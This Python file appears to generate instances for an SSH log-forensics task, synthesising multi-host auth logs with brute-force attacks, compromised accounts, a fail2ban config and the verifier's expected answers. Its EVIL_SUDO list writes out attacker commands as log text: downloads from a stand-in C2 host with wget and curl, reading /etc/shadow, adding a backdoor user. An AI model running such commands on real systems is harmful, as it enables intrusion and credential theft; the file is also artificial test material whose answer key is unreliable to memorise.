"""Instance generator for auth-log-forensics: a rotated, multi-host Linux auth log with SSH brute-force activity.

Run as a script it writes /workspace/logs/auth.log{,.1,.2.gz} and /workspace/jail.local and prints the prompt
values. The verifier imports `build_instance` and `expected_findings` to regenerate the ground truth.
"""

from __future__ import annotations

import gzip
import hashlib
import ipaddress
import json
import os
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

US = 1_000_000  # microseconds per second


def _words(text: str) -> list[str]:
    """A word list written as one string (keeps the long vocabularies compact)."""
    return text.split()


HOST_POOL = _words(
    "web-01 web-02 web-03 api-01 api-02 db-01 db-02 bastion git ci-runner-1 mail vpn-gw backup-01 monitor "
    "files build-02 cache-01 app-03"
)
FIRST_NAMES = _words(
    "alice bob carol dmitri emma farid grace hiro ines jonas kavya liam marta noah olga pavel quinn rosa "
    "sven tariq uma victor wei yusuf zoe anders bianca chen diego elif femi greta"
)
SERVICE_ACCOUNTS = ["deploy", "backup", "jenkins", "ansible", "git", "postgres", "gitlab-runner", "app", "svc-etl"]
WEAK_TARGETS = ["deploy", "backup", "test", "jenkins", "admin", "oracle", "ftpuser", "support", "dev", "git"]
DICTIONARY = _words(
    "root admin test user ubuntu oracle postgres git ftpuser guest support pi deploy jenkins hadoop ubnt "
    "administrator dev test1 mysql minecraft steam centos ec2-user backup nagios www web sysadmin "
    "teamspeak ts3 docker ansible tomcat elastic es solr redis zabbix vagrant odoo user1 demo server info "
    "sales test2 operator apache nginx mc debian admin1 gpadmin kafka sftp"
)
PUBLIC_FIRST_OCTETS = [
    int(o)
    for o in _words(
        "5 14 23 31 37 45 46 49 58 61 77 78 79 80 82 83 85 87 89 91 92 93 94 95 101 103 106 109 111 112 114 "
        "116 117 118 119 121 122 124 125 134 138 139 141 143 144 146 149 151 152 154 157 159 161 162 164 165 "
        "167 170 171 175 176 178 180 181 182 183 185 186 187 188 189 190 193 194 195 196 197 200 201 202 210 "
        "211 212 213 217 218 219 220 221 222"
    )
]
KEX_OFFERS = [
    "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1",
    "diffie-hellman-group1-sha1",
    "ssh-rsa,ssh-dss",
]
BENIGN_SUDO = [
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt update",
    "/usr/bin/apt-get -y upgrade",
    "/usr/bin/journalctl -u app --since today",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/bin/docker ps",
    "/usr/bin/systemctl status postgresql",
    "/usr/sbin/reboot",
    "/usr/bin/du -sh /var/lib/docker",
    "/usr/bin/vim /etc/nginx/sites-available/default",
    "/usr/bin/certbot renew",
    "/usr/bin/systemctl reload nginx",
]
EVIL_SUDO = [
    "/usr/bin/wget -q http://{c2}/.x/b -O /tmp/.b",
    "/usr/bin/chmod +x /tmp/.b",
    "/usr/bin/crontab -l",
    "/usr/bin/cat /etc/shadow",
    "/usr/bin/bash",
    "/usr/sbin/useradd -m -s /bin/bash sysupd",
    "/usr/bin/curl -fsSL http://{c2}/i.sh -o /dev/shm/i.sh",
]
OFFSETS = [0, 0, 0, 60, 120, -300, 330, -240, 540]  # minutes east of UTC


@dataclass(frozen=True)
class Record:
    """One log line, with the structured facts the ground truth is computed from."""

    t_us: int
    seq: int
    host: str
    program: str
    message: str
    kind: str = ""  # "fail" (count failed password attempts), "accept" (a successful login) or ""
    ip: str = ""
    user: str = ""
    count: int = 0
    sid_key: int = -1  # message holds "{sid}", filled with the host's next systemd-logind session number


@dataclass
class Instance:
    """A fully built instance: the log lines and files, the policy values and the designed answer."""

    index: int
    maxretry: int
    findtime_minutes: int
    ignoreip: list[str]
    case_id: str
    records: list[Record]
    lines: list[tuple[int, str]]  # (t_us, formatted line) in log order
    timestamps: dict[int, str]  # seq -> formatted timestamp
    files: dict[str, bytes]
    designed_compromised: set[tuple[str, str]] = field(default_factory=set)
    designed_block: set[str] = field(default_factory=set)
    prompt: dict[str, str] = field(default_factory=dict)


def _seed(index: int) -> int:
    return int.from_bytes(hashlib.sha256(f"auth-log-forensics/v1/{index}".encode()).digest()[:8], "big")


class _Builder:
    def __init__(self, rng: random.Random, start_us: int, end_us: int) -> None:
        self.rng = rng
        self.start = start_us
        self.end = end_us
        self.records: list[Record] = []
        self.used_ips: set[str] = set()
        self.used_pids: set[tuple[str, int]] = set()
        self.sid_counter = 0
        self.logind_pid: dict[str, int] = {}

    # --- small helpers -------------------------------------------------------------------------------------------
    def add(
        self,
        t_us: int,
        host: str,
        program: str,
        message: str,
        kind: str = "",
        ip: str = "",
        user: str = "",
        count: int = 0,
        sid_key: int = -1,
    ) -> None:
        if not (self.start <= t_us < self.end):
            return
        self.records.append(Record(t_us, len(self.records), host, program, message, kind, ip, user, count, sid_key))

    def pid(self, host: str) -> int:
        while True:
            p = self.rng.randint(1200, 4_194_000) if self.rng.random() < 0.3 else self.rng.randint(1200, 99_999)
            if (host, p) not in self.used_pids:
                self.used_pids.add((host, p))
                return p

    def port(self) -> int:
        return self.rng.randint(32768, 60999) if self.rng.random() < 0.7 else self.rng.randint(1025, 65000)

    def public_ip(self) -> str:
        while True:
            ip = (
                f"{self.rng.choice(PUBLIC_FIRST_OCTETS)}.{self.rng.randint(0, 255)}."
                f"{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
            )
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def public_ip6(self) -> str:
        while True:
            prefix = self.rng.choice(["2a01:4f8", "2a03:b0c0", "2604:a880", "2001:41d0", "2a02:c207"])
            groups = [f"{self.rng.randint(0, 0xFFFF):x}" for _ in range(2)]
            tail = f"{self.rng.randint(1, 0xFFFF):x}"
            ip = str(ipaddress.ip_address(f"{prefix}:{groups[0]}:{groups[1]}::{tail}"))
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def fixed_ip(self, ip: str) -> str:
        self.used_ips.add(ip)
        return ip

    def fresh_ip_in(self, prefix: str) -> str:
        while True:
            ip = f"{prefix}.{self.rng.randint(2, 250)}"
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def jitter(self, lo: float, hi: float) -> int:
        return int(self.rng.uniform(lo, hi) * US)

    def fingerprint(self) -> str:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(self.rng.choice(alphabet) for _ in range(43))

    # --- benign activity -----------------------------------------------------------------------------------------
    def session(
        self, host: str, user: str, uid: int, ip: str, t: int, method: str, typos: int, duration_s: float, sudo_ok: bool
    ) -> int:
        """A legitimate interactive login; returns the time the session ended."""
        pid, port = self.pid(host), self.port()
        sshd = f"sshd[{pid}]"
        if typos:
            t += self.jitter(0.2, 1.5)
            self.add(
                t,
                host,
                sshd,
                f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                f"ruser= rhost={ip}  user={user}",
            )
            for _ in range(typos):
                t += self.jitter(0.001, 0.01)
                self.add(
                    t,
                    host,
                    sshd,
                    f"Failed password for {user} from {ip} port {port} ssh2",
                    kind="fail",
                    ip=ip,
                    user=user,
                    count=1,
                )
                t += self.jitter(2.5, 9.0)
        else:
            t += self.jitter(0.05, 0.6)
        if method == "publickey":
            algo = self.rng.choice(["ED25519", "ED25519", "RSA", "ECDSA"])
            tail = f": {algo} SHA256:{self.fingerprint()}"
        else:
            tail = ""
        self.add(
            t,
            host,
            sshd,
            f"Accepted {method} for {user} from {ip} port {port} ssh2{tail}",
            kind="accept",
            ip=ip,
            user=user,
        )
        return self._session_body(host, sshd, user, uid, ip, port, t, duration_s, BENIGN_SUDO if sudo_ok else [])

    def _session_body(
        self,
        host: str,
        sshd: str,
        user: str,
        uid: int,
        ip: str,
        port: int,
        t: int,
        duration_s: float,
        sudo_cmds: list[str],
        sudo_allowed: bool = True,
    ) -> int:
        self.sid_counter += 1
        key = self.sid_counter
        logind = f"systemd-logind[{self.logind_pid[host]}]"
        t += self.jitter(0.002, 0.03)
        self.add(t, host, sshd, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")
        t += self.jitter(0.002, 0.05)
        self.add(t, host, logind, "New session {sid} of user " + user + ".", sid_key=key)
        end = t + int(duration_s * US)
        if sudo_cmds:
            n = self.rng.randint(1, 3) if user != "root" else 0
            for _ in range(n):
                ts = self.rng.randint(t + US, max(t + 2 * US, end - US))
                cmd = self.rng.choice(sudo_cmds)
                home = "/root" if user == "root" else f"/home/{user}"
                if not sudo_allowed:
                    self.add(
                        ts,
                        host,
                        "sudo",
                        f"{user:>8} : user NOT in sudoers ; TTY=pts/{self.rng.randint(0, 4)} ; "
                        f"PWD={home} ; USER=root ; COMMAND={cmd}",
                    )
                    continue
                if self.rng.random() < 0.08:
                    self.add(
                        ts,
                        host,
                        "sudo",
                        f"pam_unix(sudo:auth): authentication failure; logname={user} "
                        f"uid={uid} euid=0 tty=/dev/pts/0 ruser={user} rhost=  user={user}",
                    )
                    ts += self.jitter(3, 8)
                self.add(
                    ts,
                    host,
                    "sudo",
                    f"{user:>8} : TTY=pts/{self.rng.randint(0, 4)} ; PWD={home} ; USER=root ; COMMAND={cmd}",
                )
                ts += self.jitter(0.001, 0.01)
                self.add(
                    ts,
                    host,
                    "sudo",
                    f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})",
                )
                ts += self.jitter(0.2, 40)
                self.add(ts, host, "sudo", "pam_unix(sudo:session): session closed for user root")
        self.add(end, host, sshd, f"Received disconnect from {ip} port {port}:11: disconnected by user")
        end += self.jitter(0.0005, 0.002)
        self.add(end, host, sshd, f"Disconnected from user {user} {ip} port {port}")
        end += self.jitter(0.001, 0.01)
        self.add(end, host, sshd, f"pam_unix(sshd:session): session closed for user {user}")
        end += self.jitter(0.001, 0.02)
        self.add(end, host, logind, "Session {sid} logged out. Waiting for processes to exit.", sid_key=key)
        end += self.jitter(0.001, 0.02)
        self.add(end, host, logind, "Removed session {sid}.", sid_key=key)
        return end

    def cron(self, hosts: list[str], offset_min: int) -> None:
        """The hourly /etc/crontab run (minute 17, local time) on every host."""
        local = self.start + offset_min * 60 * US
        first_hour = self.start - local % (3600 * US)
        for host in hosts:
            t = first_hour + 17 * 60 * US
            while t < self.end:
                pid = self.pid(host)
                ts = t + self.jitter(1.0, 1.3)
                self.add(
                    ts, host, f"CRON[{pid}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
                )
                self.add(
                    ts + self.jitter(0.01, 0.8),
                    host,
                    f"CRON[{pid}]",
                    "pam_unix(cron:session): session closed for user root",
                )
                t += 3600 * US

    # --- hostile activity ----------------------------------------------------------------------------------------
    def connection(self, host: str, ip: str, user: str, valid: bool, attempts: int, t: int, compress: bool) -> int:
        """One SSH connection that fails `attempts` passwords for one username; returns its end time."""
        pid, port = self.pid(host), self.port()
        sshd = f"sshd[{pid}]"
        who = user if valid else f"invalid user {user}"
        if not valid:
            self.add(t, host, sshd, f"Invalid user {user} from {ip} port {port}")
            t += self.jitter(0.001, 0.2)
            self.add(t, host, sshd, "pam_unix(sshd:auth): check pass; user unknown")
            self.add(
                t + 1,
                host,
                sshd,
                f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}",
            )
        else:
            self.add(
                t,
                host,
                sshd,
                f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                f"ruser= rhost={ip}  user={user}",
            )
        failed = f"Failed password for {who} from {ip} port {port} ssh2"
        t += self.jitter(1.0, 3.0)
        self.add(t, host, sshd, failed, kind="fail", ip=ip, user=user, count=1)
        rest = attempts - 1
        if rest >= 2 and compress:
            t += sum(self.jitter(1.5, 4.0) for _ in range(rest))
            self.add(
                t, host, sshd, f"message repeated {rest} times: [ {failed}]", kind="fail", ip=ip, user=user, count=rest
            )
        else:
            for _ in range(rest):
                t += self.jitter(1.5, 4.0)
                self.add(t, host, sshd, failed, kind="fail", ip=ip, user=user, count=1)
        t += self.jitter(0.01, 1.5)
        if attempts >= 6:
            self.add(
                t,
                host,
                sshd,
                f"error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 [preauth]",
            )
            self.add(
                t + 1,
                host,
                sshd,
                f"Disconnecting {'authenticating user ' + user if valid else who} {ip} port "
                f"{port}: Too many authentication failures [preauth]",
            )
        else:
            closing = self.rng.choice(["Connection closed by", "Disconnected from", "Received disconnect from"])
            if closing == "Received disconnect from":
                self.add(t, host, sshd, f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")
                closing = "Disconnected from"
            self.add(
                t + 1,
                host,
                sshd,
                f"{closing} {'authenticating user ' + user if valid else who} {ip} port {port} [preauth]",
            )
        if attempts > 1:
            suffix = f"  user={user}" if valid else ""
            self.add(
                t + 2,
                host,
                sshd,
                f"PAM {attempts - 1} more authentication failures; logname= uid=0 euid=0 "
                f"tty=ssh ruser= rhost={ip}{suffix}",
            )
        return t + 3

    def burst(
        self,
        ip: str,
        hosts: list[str],
        accounts: dict[str, dict[str, int]],
        t: int,
        total: int,
        targets: list[str],
        max_gap: float = 12.0,
    ) -> int:
        """A fast dictionary attack of `total` failed attempts spread over connections to `hosts`."""
        done = 0
        per_conn_style = self.rng.random() < 0.5
        while done < total:
            host = self.rng.choice(hosts)
            user = self.rng.choice(targets) if targets and self.rng.random() < 0.35 else self.rng.choice(DICTIONARY)
            n = min(total - done, self.rng.randint(2, 6) if per_conn_style else self.rng.choice([1, 1, 1, 2]))
            t = self.connection(host, ip, user, user in accounts[host], n, t, compress=self.rng.random() < 0.4)
            done += n
            t += self.jitter(0.3, max_gap)
        return t

    def slow(
        self, ip: str, hosts: list[str], accounts: dict[str, dict[str, int]], t: int, total: int, min_gap_s: float
    ) -> int:
        """A low-and-slow attack: one attempt per connection, never `maxretry` attempts within `findtime`."""
        for _ in range(total):
            host = self.rng.choice(hosts)
            user = self.rng.choice(DICTIONARY)
            self.connection(host, ip, user, user in accounts[host], 1, t, compress=False)
            t += int((min_gap_s + self.rng.uniform(5, 240)) * US)
        return t

    def noise(self, host: str, ip: str, t: int, accounts: dict[str, dict[str, int]], auth: bool) -> None:
        """Background internet noise; at most three failed attempts, and only when `auth` is set."""
        pid, port = self.pid(host), self.port()
        sshd = f"sshd[{pid}]"
        kind = self.rng.random()
        if auth and kind >= 0.72:
            user = self.rng.choice(DICTIONARY)
            self.connection(
                host,
                ip,
                user,
                user in accounts[host],
                self.rng.choice([1, 1, 2, 3]),
                t,
                compress=self.rng.random() < 0.3,
            )
        elif kind < 0.3:
            self.add(t, host, sshd, f"Connection closed by {ip} port {port} [preauth]")
        elif kind < 0.45:
            self.add(t, host, sshd, f"Did not receive identification string from {ip} port {port}")
        elif kind < 0.55:
            self.add(t, host, sshd, f"banner exchange: Connection from {ip} port {port}: invalid format")
        elif kind < 0.65:
            self.add(
                t,
                host,
                sshd,
                f"Unable to negotiate with {ip} port {port}: no matching key exchange method "
                f"found. Their offer: {self.rng.choice(KEX_OFFERS)} [preauth]",
            )
        else:
            self.add(t, host, sshd, f"Connection reset by {ip} port {port} [preauth]")


def _fmt_ts(t_us: int, offset_min: int) -> str:
    tz = timezone(timedelta(minutes=offset_min))
    return datetime.fromtimestamp(t_us // US, tz).replace(microsecond=t_us % US).isoformat(timespec="microseconds")


def build_instance(index: int) -> Instance:
    """Build instance `index` deterministically (pure: no files are written)."""
    rng = random.Random(_seed(index))
    maxretry = rng.choice([5, 5, 6, 6, 8, 10])
    findtime = rng.choice([5, 10, 10, 15, 20, 30])
    offset = rng.choice(OFFSETS)
    tz = timezone(timedelta(minutes=offset))
    day0 = datetime(2024, 1, 8, tzinfo=tz) + timedelta(days=rng.randint(0, 300))
    cut0 = int((day0 + timedelta(hours=6, minutes=25)).timestamp()) * US + rng.randint(2 * US, 9 * US)
    cut1 = cut0 + 86400 * US + rng.randint(-2 * US, 3 * US)
    cut2 = cut1 + 86400 * US + rng.randint(-2 * US, 3 * US)
    end = cut2 + rng.randint(7 * 3600, 16 * 3600) * US
    b = _Builder(rng, cut0, end)

    hosts = rng.sample(HOST_POOL, rng.randint(3, 5))
    for h in hosts:
        b.logind_pid[h] = rng.randint(380, 900)
    people = rng.sample(FIRST_NAMES, rng.randint(7, 13))
    accounts: dict[str, dict[str, int]] = {h: {"root": 0} for h in hosts}
    uid_of = {p: 1001 + i for i, p in enumerate(people)}
    office = f"10.{rng.randint(10, 19)}.{rng.randint(0, 9)}"
    vpn = f"10.8.{rng.randint(0, 3)}"
    monitor_net = f"10.{rng.randint(20, 29)}.{rng.randint(0, 9)}"
    ignoreip = ["127.0.0.1/8", "::1", f"{monitor_net}.0/24"]

    # Benign users and their habits.
    users: list[dict] = []
    for p in people:
        mine = rng.sample(hosts, rng.randint(1, len(hosts)))
        for h in mine:
            accounts[h][p] = uid_of[p]
        ips = [b.fresh_ip_in(office)]
        if rng.random() < 0.6:
            ips.append(b.fresh_ip_in(vpn))
        if rng.random() < 0.4:
            ips.append(b.public_ip())
        users.append(
            {
                "name": p,
                "uid": uid_of[p],
                "hosts": mine,
                "ips": ips,
                "method": "publickey" if rng.random() < 0.7 else "password",
                "sudo": rng.random() < 0.6,
            }
        )
    for svc in rng.sample(SERVICE_ACCOUNTS, 3):
        h = rng.choice(hosts)
        accounts[h][svc] = rng.choice([998, 999, 1100, 1101, 1102, 1200]) if svc != "postgres" else 114
        users.append(
            {
                "name": svc,
                "uid": accounts[h][svc],
                "hosts": [h],
                "ips": [b.fresh_ip_in(office)],
                "method": rng.choice(["publickey", "password"]),
                "sudo": False,
            }
        )
    admins = rng.sample([u for u in users if u["name"] in people], 2)
    for u in admins:  # root logins with keys from the admins' workstations
        users.append(
            {
                "name": "root",
                "uid": 0,
                "hosts": u["hosts"][:1],
                "ips": u["ips"][:1],
                "method": "publickey",
                "sudo": False,
                "rare": True,
            }
        )

    for u in users:
        t = cut0 + rng.randint(0, 3 * 3600) * US
        while True:
            t += int(rng.uniform(0.6, 9.0) * 3600 * US) if not u.get("rare") else int(rng.uniform(8, 30) * 3600 * US)
            if t >= end:
                break
            typos = 1 if u["method"] == "password" and rng.random() < 0.12 else 0
            duration = rng.uniform(40, 5400)
            t_end = b.session(
                rng.choice(u["hosts"]),
                u["name"],
                u["uid"],
                rng.choice(u["ips"]),
                t,
                u["method"],
                typos,
                duration,
                u["sudo"],
            )
            t = t_end + 10 * 60 * US

    b.cron(hosts, offset)

    window_s = findtime * 60
    span_lo, span_hi = cut0 + 1800 * US, end - 6 * 3600 * US
    designed_compromised: set[tuple[str, str]] = set()
    designed_block: set[str] = set()

    def attack_start() -> int:
        return rng.randint(span_lo, span_hi)

    # Brute force followed by a successful login: the compromised accounts.
    n_comp = rng.choices([0, 1, 2, 3], weights=[1, 6, 5, 2])[0]
    boundary_used = False
    for _ in range(n_comp):
        ip = b.public_ip()
        home = rng.choice(hosts)
        target = rng.choice(WEAK_TARGETS)
        if target not in accounts[home]:
            accounts[home][target] = rng.choice([1005, 1010, 1050, 1099, 2001, 2002])
        uid = accounts[home][target]
        other_hosts = [h for h in hosts if h != home]
        hit = [home] + (rng.sample(other_hosts, 1) if other_hosts and rng.random() < 0.4 else [])
        if not boundary_used and rng.random() < 0.35:
            t = rng.choice([cut1, cut2]) - rng.randint(30, 150) * US
            boundary_used = True
        else:
            t = attack_start()
        t = b.burst(ip, hit, accounts, t, rng.randint(maxretry + 3, maxretry * 6), [target])
        if rng.random() < 0.3:
            t += rng.randint(3600, 20 * 3600) * US  # credentials handed to a second stage hours later
        else:
            t += b.jitter(2, 40)
        t = min(t, end - 2 * 3600 * US)
        sshd_pid, port = b.pid(home), b.port()
        sshd = f"sshd[{sshd_pid}]"
        b.add(
            t,
            home,
            sshd,
            f"Accepted password for {target} from {ip} port {port} ssh2",
            kind="accept",
            ip=ip,
            user=target,
        )
        c2 = b.public_ip()
        cmds = [c.format(c2=c2) for c in rng.sample(EVIL_SUDO, 3)]
        t_done = b._session_body(
            home, sshd, target, uid, ip, port, t, rng.uniform(60, 1500), cmds, sudo_allowed=rng.random() < 0.6
        )
        designed_compromised.add((home, target))
        designed_block.add(ip)
        # A second account with the same password on another host.
        if other_hosts and rng.random() < 0.25:
            h2 = rng.choice(other_hosts)
            if target not in accounts[h2]:
                accounts[h2][target] = uid
            t2 = t + b.jitter(60, 900)
            pid2, port2 = b.pid(h2), b.port()
            b.add(
                t2,
                h2,
                f"sshd[{pid2}]",
                f"Accepted password for {target} from {ip} port {port2} ssh2",
                kind="accept",
                ip=ip,
                user=target,
            )
            b._session_body(h2, f"sshd[{pid2}]", target, accounts[h2][target], ip, port2, t2, rng.uniform(30, 600), [])
            designed_compromised.add((h2, target))
        # Persistence: a later login with a planted key.
        if rng.random() < 0.5:
            t3 = t_done + rng.randint(1800, 10 * 3600) * US
            if t3 < end - 600 * US:
                pid3, port3 = b.pid(home), b.port()
                b.add(
                    t3,
                    home,
                    f"sshd[{pid3}]",
                    f"Accepted publickey for {target} from {ip} port {port3} ssh2: RSA SHA256:{b.fingerprint()}",
                    kind="accept",
                    ip=ip,
                    user=target,
                )
                b._session_body(home, f"sshd[{pid3}]", target, uid, ip, port3, t3, rng.uniform(20, 300), [])

    # Brute force that never gets in.
    for k in range(rng.randint(1, 4)):
        ip = b.public_ip6() if k == 0 and rng.random() < 0.3 else b.public_ip()
        hit = rng.sample(hosts, rng.randint(1, min(3, len(hosts))))
        if not boundary_used and rng.random() < 0.4:
            t = rng.choice([cut1, cut2]) - rng.randint(30, 150) * US
            boundary_used = True
        else:
            t = attack_start()
        b.burst(ip, hit, accounts, t, rng.randint(maxretry, maxretry * 8), [])
        designed_block.add(ip)

    # Near misses.
    min_gap = window_s / (maxretry - 1)
    for _ in range(rng.randint(1, 2)):  # low and slow: many attempts, never maxretry within findtime
        ip = b.public_ip()
        b.slow(
            ip,
            rng.sample(hosts, rng.randint(1, len(hosts))),
            accounts,
            attack_start(),
            rng.randint(maxretry + 2, maxretry * 3),
            min_gap,
        )
    pw_users = [u for u in users if u["name"] in people]
    for _ in range(rng.randint(1, 2)):  # a user mistyping maxretry - 1 times from a hotel, then getting in
        u = rng.choice(pw_users)
        ip = b.public_ip()
        t = attack_start()
        typos = min(maxretry - 1, 5)
        b.session(u["hosts"][0], u["name"], u["uid"], ip, t, "password", typos, rng.uniform(60, 900), False)
    if rng.random() < 0.6:  # the same user failing in spread-out bursts (each below maxretry) over a day
        u = rng.choice(pw_users)
        ip = b.public_ip()
        t = attack_start() - 8 * 3600 * US
        t = max(t, cut0 + 600 * US)
        for _ in range(rng.randint(2, 3)):
            typos = rng.randint(2, min(maxretry - 1, 5))
            t_end = b.session(u["hosts"][0], u["name"], u["uid"], ip, t, "password", typos, rng.uniform(60, 900), False)
            t = t_end + int((window_s + rng.uniform(600, 7200)) * US)
    # The vulnerability scanner from the monitoring subnet (ignoreip): brute-force volume, never blocked.
    scanner = b.fresh_ip_in(monitor_net)
    b.burst(scanner, hosts, accounts, attack_start(), rng.randint(maxretry * 2, maxretry * 5), ["root"])
    # A misconfigured internal job hammering with a stale password: internal, but not in ignoreip.
    if rng.random() < 0.4:
        ip = b.fresh_ip_in(office)
        h = rng.choice(hosts)
        svc = rng.choice(["backup", "svc-etl", "app"])
        t = attack_start()
        for _ in range(rng.randint(maxretry + 1, maxretry * 3)):
            b.connection(h, ip, svc, svc in accounts[h], 1, t, compress=False)
            t += int(rng.uniform(0.55, 0.8) * min_gap * US)
        designed_block.add(ip)

    # Internet background noise: short-lived scanners far below maxretry.
    for _ in range(rng.randint(50, 120)):
        ip = b.public_ip()
        for k in range(rng.choice([1, 1, 1, 2])):
            b.noise(rng.choice(hosts), ip, rng.randint(cut0, end - US), accounts, auth=k == 0)
    for h in hosts:
        if rng.random() < 0.15:
            t = rng.randint(cut0, end - US)
            pid = b.pid(h)
            b.add(t, h, f"sshd[{pid}]", "Received signal 15; terminating.")
            pid2 = b.pid(h)
            b.add(t + b.jitter(1, 3), h, f"sshd[{pid2}]", "Server listening on 0.0.0.0 port 22.")
            b.add(t + b.jitter(3.01, 3.02), h, f"sshd[{pid2}]", "Server listening on :: port 22.")

    # Log order: by time, ties by creation; make timestamps strictly increasing.
    ordered = sorted(b.records, key=lambda r: (r.t_us, r.seq))
    records: list[Record] = []
    last = -1
    for r in ordered:
        t = r.t_us if r.t_us > last else last + 1
        last = t
        records.append(Record(t, r.seq, r.host, r.program, r.message, r.kind, r.ip, r.user, r.count, r.sid_key))

    sid_next = {h: rng.randint(200, 9000) for h in hosts}
    sid_map: dict[int, int] = {}
    lines: list[tuple[int, str]] = []
    timestamps: dict[int, str] = {}
    for r in records:
        msg = r.message
        if r.sid_key >= 0:
            if r.sid_key not in sid_map:
                sid_map[r.sid_key] = sid_next[r.host]
                sid_next[r.host] += 1
            msg = msg.replace("{sid}", str(sid_map[r.sid_key]))
        ts = _fmt_ts(r.t_us, offset)
        timestamps[r.seq] = ts
        lines.append((r.t_us, f"{ts} {r.host} {r.program}: {msg}\n"))

    chunks: dict[str, list[str]] = {"auth.log.2.gz": [], "auth.log.1": [], "auth.log": []}
    for t, line in lines:
        name = "auth.log.2.gz" if t < cut1 else "auth.log.1" if t < cut2 else "auth.log"
        chunks[name].append(line)
    files = {
        "logs/auth.log.2.gz": gzip.compress("".join(chunks["auth.log.2.gz"]).encode(), mtime=0),
        "logs/auth.log.1": "".join(chunks["auth.log.1"]).encode(),
        "logs/auth.log": "".join(chunks["auth.log"]).encode(),
        "jail.local": _jail(maxretry, findtime, ignoreip).encode(),
    }
    case_id = f"IR-{day0.year}-{rng.randint(1000, 9999)}"
    first_day = day0.date().isoformat()
    prompt = {
        "case_id": case_id,
        "maxretry": str(maxretry),
        "findtime_minutes": str(findtime),
        "ignoreip": " ".join(ignoreip),
        "hosts": ", ".join(sorted(hosts)),
        "first_day": first_day,
    }
    return Instance(
        index,
        maxretry,
        findtime,
        ignoreip,
        case_id,
        records,
        lines,
        timestamps,
        files,
        designed_compromised,
        designed_block,
        prompt,
    )


def _jail(maxretry: int, findtime: int, ignoreip: list[str]) -> str:
    return (
        "# fail2ban configuration deployed to every SSH-facing host (copy for the investigation).\n"
        "[DEFAULT]\n"
        f"ignoreip = {' '.join(ignoreip)}\n"
        "bantime  = 1h\n"
        "\n"
        "[sshd]\n"
        "enabled  = true\n"
        "port     = ssh\n"
        "backend  = auto\n"
        "logpath  = %(sshd_log)s\n"
        f"maxretry = {maxretry}\n"
        f"findtime = {findtime}m\n"
    )


def expected_findings(inst: Instance) -> tuple[dict[tuple[str, str], tuple[str, str]], set[str]]:
    """Apply the task's definitions to the structured records.

    Returns ({(host, user): (ip, first_login_timestamp)}, block_ips) with IPs in canonical text form.
    """
    window = inst.findtime_minutes * 60 * US
    attempts: dict[str, list[int]] = {}
    brute: set[str] = set()
    compromised: dict[tuple[str, str], tuple[str, str]] = {}
    for r in inst.records:
        if r.kind == "fail":
            seen = attempts.setdefault(r.ip, [])
            seen.extend([r.t_us] * r.count)
            if len(seen) >= inst.maxretry and seen[-1] - seen[-inst.maxretry] <= window:
                brute.add(r.ip)
        elif r.kind == "accept" and r.ip in brute:
            compromised.setdefault((r.host, r.user), (r.ip, inst.timestamps[r.seq]))
    nets = [ipaddress.ip_network(n, strict=False) for n in inst.ignoreip]
    block = set()
    for ip in brute:
        addr = ipaddress.ip_address(ip)
        if not any(addr.version == n.version and addr in n for n in nets):
            block.add(str(addr))
    return compromised, block


def main() -> None:
    index = int(os.environ["ARENA_INSTANCE"])
    workspace = Path(os.environ.get("ARENA_WORKSPACE", "/workspace"))
    inst = build_instance(index)
    for rel, data in inst.files.items():
        path = workspace / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(json.dumps(inst.prompt, sort_keys=True))


if __name__ == "__main__":
    main()
